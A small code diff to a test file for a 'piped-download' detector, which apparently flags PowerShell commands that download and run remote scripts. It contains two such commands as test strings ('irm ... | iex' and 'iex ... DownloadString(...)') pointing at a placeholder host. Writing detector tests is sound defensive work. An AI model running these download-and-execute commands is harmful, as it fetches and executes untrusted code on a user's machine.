@@ -64,7 +64,7 @@ describe("piped-download", () => {
     catches(pipedDownload, "«irm https://x.y/a.ps1 | iex»", undefined, "powershell");
     catches(
       pipedDownload,
-      "«iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/a.ps1'))»".replace("»", "»"),
+      "«iex ((New-Object System.Net.WebClient).DownloadString('https://x.y/a.ps1'))»",
       undefined,
       "ps1",
     );
